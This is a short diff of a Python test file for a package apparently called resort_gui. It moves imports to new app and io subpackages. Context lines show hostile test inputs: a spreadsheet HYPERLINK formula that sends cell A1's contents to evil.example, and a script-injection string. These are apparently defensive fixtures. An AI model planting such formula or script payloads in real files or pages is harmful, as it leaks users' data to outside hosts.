@@ -6,9 +6,9 @@ from pathlib import Path
 
 import pytest
 
-from resort_gui.cli import main
-from resort_gui.demo import demo_spec
-from resort_gui.pipeline import analyze_file
+from resort_gui.app.cli import main
+from resort_gui.app.pipeline import analyze_file
+from resort_gui.io.demo import demo_spec
 
 HOSTILE_GROUPS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")',
                   "<script>alert(1)</script> & co")
